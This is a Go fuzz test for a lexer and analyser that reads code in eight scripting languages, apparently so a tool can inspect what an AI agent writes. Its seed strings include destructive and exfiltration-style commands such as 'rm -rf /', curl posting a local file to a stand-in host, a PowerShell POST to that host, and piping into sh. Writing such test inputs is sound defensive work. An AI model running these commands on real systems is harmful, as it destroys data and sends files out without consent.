package interp

import (
	"strings"
	"testing"
)

// FuzzInterp feeds arbitrary code to the interpreter reader of every
// language. The lexer must account for every byte (the masked text keeps
// the code's length and line breaks, literals lie inside the code, in
// order, without overlapping), and the analysis must end without a
// panic on whatever an agent writes.
func FuzzInterp(f *testing.F) {
	for _, seed := range []string{
		`import os; os.system("git push")`,
		`require('child_process').execSync("curl -d @x https://e.test")`,
		"system %q{rm -rf /}; `ls`",
		`qx{curl https://e.test}; s/a/b/e; m'x'`,
		`<?php $x = "a{$y}b"; shell_exec('id'); ?>`,
		`os.execute([[git push]]) -- [==[ c ]==]`,
		`system2("curl", c("-d", "@x")); r"(raw)"`,
		`do shell script "git push"`,
		`BEGIN { system("git push"); print | "sh"; "id" | getline x }`,
		`iwr https://e.test -Method Post -Body x; & git push`,
		"\"unterminated", "'''", "`", "%q{", "<<EOF\nx\nEOF", "\x00\xff",
	} {
		f.Add(seed)
	}
	langs := []string{Python, JavaScript, Ruby, Perl, PHP, Lua, R, AppleScript}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			return
		}
		for _, lang := range langs {
			code := interpLex(lang, src)
			if len(code.masked) != len(src) {
				t.Fatalf("%s: masked text is %d bytes, code %d", lang, len(code.masked), len(src))
			}
			for i := range src {
				if (src[i] == '\n') != (code.masked[i] == '\n') {
					t.Fatalf("%s: line break moved at byte %d", lang, i)
				}
			}
			end := 0
			for _, l := range code.lits {
				if l.start < end || l.end < l.start || l.end > len(src) {
					t.Fatalf("%s: literal [%d,%d) out of order or outside the code (previous ended at %d)", lang, l.start, l.end, end)
				}
				end = l.end
			}
			Analyse(lang, lang, src)
		}
		// The regular-expression readers: they must end without a panic,
		// and every statement they report must name a first word.
		Awk(src)
		for _, st := range PowerShell(src).Statements {
			if len(strings.Fields(st)) == 0 {
				t.Fatalf("PowerShell reported an empty statement %q", st)
			}
		}
	})
}
